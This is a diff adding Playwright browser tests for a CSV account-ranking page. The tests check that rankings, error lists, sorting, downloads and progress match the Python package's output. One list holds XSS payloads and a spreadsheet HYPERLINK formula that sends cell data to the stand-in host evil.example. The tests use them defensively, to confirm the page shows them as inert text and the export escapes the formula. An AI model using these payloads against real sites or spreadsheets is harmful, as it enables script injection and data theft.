@@ -1,0 +1,283 @@
+"""The prioritise page in a real browser: a list of accounts ranked in the worker.
+
+Expected rankings, errors and CSVs come from calculators.batch under CPython
+for the same text, so these tests check the page shows what the package
+computes, not figures copied into the test.
+"""
+
+from __future__ import annotations
+
+import random
+import re
+from decimal import Decimal
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import expect
+
+from calculators.batch import TIER_FIELD, run_batch, salesforce_name, score_csv, to_csv
+from calculators.batch_table import PAGE_ROWS, Session
+from calculators.inputs import plain
+from calculators.loader import load_data_dir
+from conftest import ROOT
+
+pytestmark = pytest.mark.browser
+
+PAGE = "playbook/prioritise/"
+READY = "form[data-batch][data-calculator-state=ready]"
+PLAYBOOK = load_data_dir(ROOT / "data", "internal")
+SAMPLE = (ROOT / "docs" / "playbook" / "sample-accounts.csv").read_text(encoding="utf-8")
+HEAD = "Name,Domain,Industry,Use Case Fit,Commercial Fit,Technical Fit,Strategic Value,Annual Revenue,Annual Budget,Disqualifiers"
+HOSTILE = ['<img src=x onerror=alert(1)>', '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+           '<script>window.__pwned=1</script>', '"><svg onload=alert(2)>']
+
+TABLE_ROWS = """() => [...document.querySelectorAll('[data-batch-table] tbody tr')]
+    .map((tr) => [tr.cells[1].firstChild.textContent, tr.cells[2].textContent])"""
+
+
+def accounts(count: int, seed: int = 6) -> str:
+    """A CRM-like export: scores in halves (with ties), sizes, industries and a few disqualifiers."""
+    rnd = random.Random(seed)
+    half = lambda: plain(Decimal(rnd.randrange(8, 21)) / 2)  # noqa: E731
+    industries = [i.name for i in PLAYBOOK.use_cases.industries] + ["Logistics", ""]
+    flags = ["", "", "", "", "on_premise_only", "exotic_architectures|real_time_training"]
+    lines = [HEAD]
+    for n in range(count):
+        lines.append(f"Account {n:05},acc{n}.example,{rnd.choice(industries)},{half()},{half()},{half()},{half()},"
+                     f"{rnd.randrange(1, 3000) * 10**6},{rnd.randrange(0, 800) * 1000},{rnd.choice(flags)}")
+    return "\r\n".join(lines) + "\r\n"
+
+
+def expected_rows(text: str) -> list[list[str]]:
+    """(name, total) of every ranked row, in order, as CPython's run_batch gives them."""
+    payload = run_batch(text, PLAYBOOK)
+    name, total = payload["columns"].index("name"), payload["columns"].index("total")
+    return [[row[name], plain(Decimal(str(row[total])))] for row in payload["rows"]]
+
+
+def summary_of(text: str) -> str:
+    return run_batch(text, PLAYBOOK)["display"]["summary"]
+
+
+def open_ready(visit, url: str):
+    seen = visit(url + PAGE)
+    seen.page.wait_for_selector(READY, timeout=60_000)
+    return seen
+
+
+def rank_pasted(page, text: str) -> None:
+    page.fill("#batch-csv", text)
+    page.click("[data-batch-run]")
+    expect(page.locator("[data-batch-summary]")).to_have_text(summary_of(text), timeout=60_000)
+
+
+def test_prerendered_sample_table_shows_with_javascript_off(visit, internal_url):
+    seen = visit(internal_url + PAGE, javascript=False)
+    assert seen.page.evaluate(TABLE_ROWS) == expected_rows(SAMPLE)
+    expect(seen.page.locator("[data-batch-summary]")).to_have_text(summary_of(SAMPLE))
+    assert not [u for u in seen.requests if "/assets/pyodide/" in u or "/assets/calculators/" in u]
+
+
+def test_pasted_csv_is_ranked_as_cpython_ranks_it_and_stays_in_the_browser(visit, internal_url):
+    origin = "{0.scheme}://{0.netloc}/".format(urlsplit(internal_url))
+    seen = open_ready(visit, internal_url)
+    page = seen.page
+    sent = []
+    page.context.on("request", lambda r: sent.append(f"{r.method} {r.url} {r.post_data or ''}"))
+    text = accounts(PAGE_ROWS + 50)
+    rank_pasted(page, text)
+    want = expected_rows(text)
+    assert page.evaluate(TABLE_ROWS) == want[:PAGE_ROWS]
+    expect(page.locator("[data-batch-showing]")).to_have_text(f"Showing {PAGE_ROWS} of {len(want)} ranked accounts.")
+    page.click("[data-batch-more]")
+    expect(page.locator("[data-batch-table] tbody tr")).to_have_count(len(want))
+    assert page.evaluate(TABLE_ROWS) == want
+    expect(page.locator("[data-batch-more]")).to_be_hidden()
+    assert [r for r in sent if "Account 00001" in r or not r.startswith("GET ")] == [], "the list left the page"
+    assert [u for u in seen.requests if not u.startswith(origin)] == []
+
+
+def test_a_chosen_file_is_read_in_the_page_and_ranked(visit, internal_url):
+    seen = open_ready(visit, internal_url)
+    page = seen.page
+    # A CRM export as Excel writes it: BOM, semicolons, CRLF, a quoted cell, blank lines.
+    text = "\ufeff" + accounts(40, seed=9).replace(",", ";").replace("\r\n", "\r\n\r\n", 3)
+    text = text.replace("Account 00003", '"Account 00003; the holding"')
+    page.set_input_files("#batch-file", files=[{"name": "export.csv", "mimeType": "text/csv",
+                                                "buffer": text.encode("utf-8")}])
+    expect(page.locator("[data-batch-summary]")).to_have_text(summary_of(text), timeout=60_000)
+    assert page.evaluate(TABLE_ROWS) == expected_rows(text)
+    assert "Account 00003; the holding" in [name for name, _ in page.evaluate(TABLE_ROWS)]
+
+
+def test_bad_rows_are_listed_by_row_and_column_while_good_rows_are_ranked(visit, internal_url):
+    seen = open_ready(visit, internal_url)
+    page = seen.page
+    text = (f"{HEAD}\nGood One,,Gaming,8,8,8,8,,,\nBad Score,,Gaming,11,8,8,8,,,\n"
+            f"Bad Money,,Gaming,5,5,5,5,lots,,\nGood Two,,,6,6,6,6,,,unknown_flag\nGood Three,,,7,7,7,7,,,\n")
+    rank_pasted(page, text)
+    errors = page.locator("[data-batch-errors]")
+    expect(errors).to_be_visible()
+    expect(errors).to_have_attribute("role", "alert")
+    shown = errors.locator("tbody tr").evaluate_all("rows => rows.map(r => [...r.cells].map(c => c.textContent))")
+    want = [[str(e["row"]), e["column"], e["message"]] for e in run_batch(text, PLAYBOOK)["errors"]]
+    assert shown == want and {row for row, _, _ in want} == {"3", "4", "5"}
+    assert page.evaluate(TABLE_ROWS) == expected_rows(text) == [["Good One", "32"], ["Good Three", "28"]]
+    # A file no row of which can be read: the message says what the CSV lacks.
+    rank_bad = "account;score\nAcme;5\n"
+    page.fill("#batch-csv", rank_bad)
+    page.click("[data-batch-run]")
+    message = run_batch(rank_bad, PLAYBOOK)["errors"][0]["message"]
+    expect(errors.locator("[data-batch-file-errors]")).to_contain_text(message)
+    expect(errors.locator("[data-batch-row-errors]")).to_be_hidden()
+
+
+def test_hostile_account_names_are_shown_as_text(visit, internal_url):
+    seen = open_ready(visit, internal_url)
+    page = seen.page
+    text = HEAD + "\n" + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",x.example,,9,9,9,{9 - i},,,\n'
+                                 for i, name in enumerate(HOSTILE))
+    rank_pasted(page, text)
+    assert [name for name, _ in page.evaluate(TABLE_ROWS)] == [name for name, _ in expected_rows(text)]
+    assert sorted(name for name, _ in page.evaluate(TABLE_ROWS)) == sorted(HOSTILE)
+    assert page.locator("article img, article script, article svg[onload]").count() == 0
+    page.wait_for_timeout(300)
+    assert page.evaluate("() => window.__pwned") is None  # and the visit fixture checks no dialog opened
+
+
+def test_sorting_by_a_header_with_mouse_and_keyboard(visit, internal_url):
+    seen = open_ready(visit, internal_url)
+    page = seen.page
+    text = accounts(60, seed=3)
+    rank_pasted(page, text)
+    session = Session(PLAYBOOK)
+    session.handle({"csv": text})
+
+    def names_by(sort, descending):
+        return [row["cells"][1]["text"] for row in session.handle({"sort": sort, "descending": descending})["rows"]]
+
+    def header(sort):
+        return page.locator(f'[data-batch-table] th:has(button[data-sort="{sort}"])')
+
+    page.click('button[data-sort="total"]')  # numbers sort highest first on the first click
+    expect(header("total")).to_have_attribute("aria-sort", "descending")
+    expect(header("rank")).not_to_have_attribute("aria-sort", re.compile("."))
+    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("total", True)
+    page.click('button[data-sort="total"]')
+    expect(header("total")).to_have_attribute("aria-sort", "ascending")
+    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("total", False)
+
+    page.locator('button[data-sort="name"]').focus()
+    page.keyboard.press("Enter")
+    expect(header("name")).to_have_attribute("aria-sort", "ascending")
+    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("name", False)
+    page.keyboard.press("Space")
+    expect(header("name")).to_have_attribute("aria-sort", "descending")
+    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("name", True)
+    expect(header("total")).not_to_have_attribute("aria-sort", re.compile("."))
+    tier = salesforce_name(PLAYBOOK, "tier", TIER_FIELD)
+    page.locator(f'button[data-sort="{tier}"]').focus()
+    page.keyboard.press("Enter")
+    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by(tier, False)
+
+
+def test_download_is_the_ranked_csv_of_to_csv(visit, internal_url, tmp_path):
+    seen = open_ready(visit, internal_url)
+    page = seen.page
+    # The prerendered sample downloads as it is shown, without ranking anything first.
+    with page.expect_download() as info:
+        page.click("[data-batch-download]")
+    assert info.value.suggested_filename == "ranked-accounts.csv"
+    assert open(info.value.path(), encoding="utf-8", newline="").read() == to_csv(score_csv(SAMPLE, PLAYBOOK))
+    text = HEAD + "\n" + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",,,7,7,7,7,,,\n' for name in HOSTILE)
+    rank_pasted(page, text)
+    page.click('button[data-sort="name"]')  # the CSV keeps the ranking, whatever the table's order
+    with page.expect_download() as info:
+        page.click("[data-batch-download]")
+    downloaded = open(info.value.path(), encoding="utf-8", newline="").read()
+    assert downloaded == to_csv(score_csv(text, PLAYBOOK))
+    assert "'=HYPERLINK(" in downloaded  # a spreadsheet shows it, never runs it
+
+
+PROBES = """() => {
+  const box = document.querySelector("[data-batch-progress]");
+  const bar = box.querySelector("progress");
+  window.__progress = [];
+  new MutationObserver(() => window.__progress.push([box.hidden, bar.value, bar.max]))
+    .observe(box, { attributes: true, subtree: true, childList: true, characterData: true });
+  window.__frames = [];
+  const tick = (time) => { window.__frames.push(time); if (!window.__stop) requestAnimationFrame(tick); };
+  requestAnimationFrame(tick);
+  document.querySelector("form[data-batch]").addEventListener("batch:result", (event) => {
+    window.__stop = true;
+    window.__run = [performance.now() - event.detail.ms, performance.now()];
+  }, { once: true });
+}"""
+
+
+def test_a_large_list_shows_progress_and_the_page_keeps_drawing(visit, internal_url):
+    seen = open_ready(visit, internal_url)
+    page = seen.page
+    text = accounts(30_000)
+    page.evaluate(PROBES)
+    page.set_input_files("#batch-file", files=[{"name": "big.csv", "mimeType": "text/csv",
+                                                "buffer": text.encode("utf-8")}])
+    expect(page.locator("[data-batch-summary]")).to_have_text(summary_of(text), timeout=120_000)
+    progress = page.evaluate("() => window.__progress")
+    assert any(not hidden and 0 < value < top for hidden, value, top in progress), progress
+    expect(page.locator("[data-batch-progress]")).to_be_hidden()
+    start, end = page.evaluate("() => window.__run")
+    frames = [t for t in page.evaluate("() => window.__frames") if start <= t <= end]
+    gaps = [b - a for a, b in zip(frames, frames[1:])]
+    # Scoring 30,000 rows takes seconds; the page draws frames all along (a frozen
+    # page would show one gap as long as the run). Generous: the machine may be busy.
+    assert len(frames) >= 10 and max(gaps) < 500, (len(frames), max(gaps, default=None), end - start)
+    assert page.evaluate(TABLE_ROWS) == expected_rows(text)[:PAGE_ROWS]
+
+
+def test_works_after_instant_navigation_from_another_calculator(visit, internal_url):
+    seen = visit(internal_url + "playbook/account-scoring/")
+    page = seen.page
+    seen.wait_ready()
+    page.evaluate("() => { window.__sameDocument = true; }")
+    page.locator('a.md-nav__link[href$="prioritise/"]').first.click()
+    page.wait_for_selector(READY, timeout=60_000)
+    assert page.evaluate("() => window.__sameDocument") is True, "navigation reloaded the page"
+    text = accounts(30, seed=11)
+    rank_pasted(page, text)
+    assert page.evaluate(TABLE_ROWS) == expected_rows(text)
+    page.click('button[data-sort="total"]')
+    expect(page.locator('[data-batch-table] th:has(button[data-sort="total"])')).to_have_attribute(
+        "aria-sort", "descending")
+    assert page.evaluate("() => window.__calculatorWorkerStarts") == 1
+    assert sum(u.endswith("/pyodide.asm.wasm") for u in seen.requests) == 1
+
+
+def _luminance(colour: list[float]) -> float:
+    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in colour]
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+
+def _rgba(text: str) -> list[float]:
+    parts = [float(p) for p in re.findall(r"[\d.]+", text)]
+    return [c / 255 for c in parts[:3]] + [parts[3] if len(parts) > 3 else 1.0]
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_band_colours_are_readable_in_both_palettes(scheme, visit, internal_url):
+    seen = visit(internal_url + PAGE, color_scheme=scheme)
+    # Material picks the palette with JavaScript, from the reader's preference.
+    expect(seen.page.locator("body")).to_have_attribute("data-md-color-scheme", "slate" if scheme == "dark" else "default")
+    cells = seen.page.evaluate("""() => [...document.querySelectorAll("[data-batch-table] .batch__band")]
+        .map((td) => [td.className, getComputedStyle(td).color, getComputedStyle(td).backgroundColor])""")
+    bands = {b.id for b in PLAYBOOK.scoring.bands}
+    assert {re.search(r"batch__band--(\S+)", c)[1] for c, _, _ in cells} == bands  # the sample has every band
+    backgrounds = set()
+    for name, fore, back in cells:
+        *fg, alpha = _rgba(fore)
+        bg = _rgba(back)[:3]
+        backgrounds.add(tuple(bg))
+        shown = [alpha * f + (1 - alpha) * b for f, b in zip(fg, bg)]  # the text's colour over the tint
+        light, dark = sorted((_luminance(shown), _luminance(bg)), reverse=True)
+        assert (light + 0.05) / (dark + 0.05) >= 4.5, f"{scheme}: {name}"
+    assert len(backgrounds) == len(bands), "each band has its own colour"
